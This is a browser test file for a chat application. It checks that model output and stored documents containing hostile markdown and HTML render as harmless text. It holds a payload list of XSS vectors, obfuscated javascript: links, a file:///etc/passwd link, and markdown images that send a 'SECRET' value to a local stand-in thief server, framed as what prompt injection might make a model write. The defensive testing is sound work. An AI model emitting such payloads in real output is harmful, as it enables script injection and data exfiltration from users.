import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import { putDocument } from '../../src/lib/store/document-rows.ts'
import { describeInBrowser } from '../support/console-stage.ts'
import { must } from '../support/stage.ts'
import { callsTools, says, scriptedModel } from '../support/scripted-model.ts'
import { answered, answers, ask } from './pages.ts'

/** Where what is stolen would go: a server of another origin, which must hear nothing. */
const heard: string[] = []
const thief = createServer((request, response) => {
  heard.push(request.url ?? '')
  response.end('thanks')
})
let evil: string

beforeAll(async () => {
  await new Promise<void>((resolve) => {
    thief.listen(0, '127.0.0.1', resolve)
  })
  evil = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`
})
afterAll(() => thief.close())

/** What a model that reads a hostile document may be made to write. Each line would, believed, run a script or send something away. */
const corpus = (to: string) => [
  `![a picture](${to}/image?q=SECRET)`,
  `![a][ref]\n\n[ref]: ${to}/reference`,
  `[![nested](${to}/nested)](${to}/outer)`,
  `<img src="${to}/tag" onerror="window.pwned=1">`,
  `<script>window.pwned=1;fetch("${to}/script")</script>`,
  `<svg onload="window.pwned=1"><image href="${to}/svg"/></svg>`,
  `<iframe src="${to}/frame" srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${to}/object"></object><embed src="${to}/embed">`,
  `<link rel="stylesheet" href="${to}/style"><style>@import url(${to}/import); body{background:url(${to}/background)}</style>`,
  `<video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio>`,
  `<form action="${to}/form"><button autofocus onfocus="this.form.submit()">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${to}/refresh"><base href="${to}/">`,
  `<a href="javascript:window.pwned=1">click</a>`,
  '[click](javascript:window.pwned=1) [click](JaVaScRiPt:window.pwned=1) [click](java\tscript:window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>) [click](vbscript:x) [click](file:///etc/passwd) [click](blob:x)',
  `<javascript:window.pwned=1> <${to}/autolink> ${to}/bare`,
  '[click](&#106;avascript:window.pwned=1) [click](&#x6A;avascript:alert) [click](\u0001javascript:window.pwned=1)',
  `[looks like https://ambit.example](${to}/lie) [named][elsewhere]\n\n[elsewhere]: ${to}/elsewhere`,
  `[^1]\n\n[^1]: ![f](${to}/footnote)`,
  `| ![t](${to}/table) |\n| - |\n| <img src=${to}/cell> |`,
  `- ![l](${to}/list)\n\n> ![q](${to}/quote)`,
  `\`\`\`html\n<img src="${to}/code">\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A-->B; click A "${to}/mermaid"\n\`\`\``,
  `$$\\href{${to}/math}{x}$$ <math><mtext href="${to}/mathml">x</mtext></math>`,
  `<!-- ${to}/comment --> <![CDATA[<img src=${to}/cdata>]]> <?php echo 1 ?>`,
  '"><img src=x onerror=window.pwned=1> {{constructor.constructor("window.pwned=1")()}} ${window.pwned=1}',
  '\u202Egnp.exe\u202C \u0000 \uFEFF [x]( <javascript:window.pwned=1> )',
]

/** Nothing ran, nobody else was asked, and nothing of it is more than text. */
async function mustBeHarmless(page: Page, requests: readonly string[], origin: string): Promise<void> {
  await page.mouse.wheel(0, -10_000)
  expect(await page.evaluate('typeof window.pwned')).toBe('undefined')
  expect(requests.filter((url) => !url.startsWith(`${origin}/`) && !url.startsWith('data:') && !url.startsWith('blob:'))).toEqual([])
  expect(heard).toEqual([])
  const main = page.getByRole('main')
  expect(await main.locator('script, iframe, object, embed, video, audio, form[action], link, meta, base, img, image, style, math').count()).toBe(0)
  const protocols = await page.evaluate("[...new Set([...document.querySelectorAll('main a')].map((link) => link.protocol))]")
  expect(['http:', 'https:', 'mailto:']).toEqual(expect.arrayContaining(protocols as string[]))
}

/** What a page does that takes a text for more, and what became of each. Runs in the page. */
const BELIEVING = new Function('to', `
  const attempt = (what, act) => Promise.resolve().then(act).then(() => what + ': done', (error) => what + ': ' + error.name)
  return Promise.all([
    attempt('innerHTML', () => { document.body.innerHTML = '<b>x</b>' }),
    attempt('a script', () => { document.createElement('script').src = to + '/script' }),
    attempt('a request', () => fetch(to + '/fetch')),
    new Promise((resolve) => {
      const image = new Image()
      image.onload = image.onerror = ({ type }) => resolve('an image: ' + type)
      image.src = to + '/image'
    }),
  ])
`) as (to: string) => Promise<string[]>

function requestsOf(page: Page): string[] {
  const urls: string[] = []
  page.context().on('request', (request) => urls.push(request.url()))
  page.on('dialog', (dialog) => {
    urls.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  return urls
}

describeInBrowser('what a model or a document writes', (stage) => {
  test('runs nothing and asks nobody, while it arrives and when it is loaded again', async () => {
    const text = corpus(evil).join('\n\n')
    const { url } = await stage.serve({ model: scriptedModel(says(...(text.match(/[^]{1,40}/g) ?? []))) })
    const page = await stage.visit(`${url}/orgs/acme/projects/apollo/chats`, 'bob')
    const requests = requestsOf(page)
    await ask(page, 'Write.')
    await answered(page)
    await mustBeHarmless(page, requests, url)
    await page.reload()
    await answered(page)
    await mustBeHarmless(page, requests, url)
  })

  test('is a link only with its host beside it, and the one who follows it is not told on', async () => {
    const { url } = await stage.serve({ model: scriptedModel(says(`[the manual](${evil}/manual?x=1) and <mailto:a@b.example>`)) })
    const page = await stage.visit(`${url}/orgs/acme/projects/apollo/chats`, 'bob')
    await ask(page, 'Where?')
    const link = answers(page).getByRole('link', { name: 'the manual' })
    await link.waitFor()
    expect(await answers(page).innerText()).toContain(`the manual (${new URL(evil).host})`)
    expect(await link.getAttribute('rel')).toContain('noopener noreferrer')
    expect(await link.getAttribute('target')).toBe('_blank')
    expect(await link.getAttribute('referrerpolicy')).toBe('no-referrer')
  })

  test('does no harm in a title, a search, a tool’s result or a source either', async () => {
    const nasty = `<img src="${evil}/title" onerror="window.pwned=1"> ![x](${evil}/x)`
    await stage.database.handles.scoped(stage.world.rows('acme'), (sql) =>
      putDocument(sql, { projectId: must(stage.world.ids['acme/apollo']), id: `nasty-${performance.now().toString(36).replace('.', '-')}`, title: `Kumquat ${nasty}`.slice(0, 190), mediaType: 'text/markdown', body: `Kumquat report.\n\n${corpus(evil).join('\n\n').replaceAll('\0', '')}` }))
    const { url } = await stage.serve({ model: scriptedModel(callsTools(['search_documents', { query: `kumquat ${nasty}` }]), says('The kumquat report. [1]')) })
    const page = await stage.visit(`${url}/orgs/acme/projects/apollo/chats`, 'bob')
    const requests = requestsOf(page)
    await ask(page, `Kumquat? ${nasty}`)
    await answered(page)
    await page.getByRole('button', { name: /Searched the documents/ }).click()
    await mustBeHarmless(page, requests, url)
    await page.getByRole('button', { name: /^Source 1/ }).click()
    await page.getByRole('complementary', { name: 'Source' }).getByText('Kumquat report.').first().waitFor()
    await mustBeHarmless(page, requests, url)
  })

  test('would be stopped by the page’s policy, if a page believed it', async () => {
    const { url } = await stage.serve({ model: scriptedModel(says('Hello.')) })
    const page = await stage.visit(url, 'bob')
    expect(await page.evaluate(BELIEVING, evil)).toEqual(['innerHTML: TypeError', 'a script: TypeError', 'a request: TypeError', 'an image: error'])
    expect(heard).toEqual([])
    expect(stage.faults.splice(0).length).toBeGreaterThan(0)
  })
})
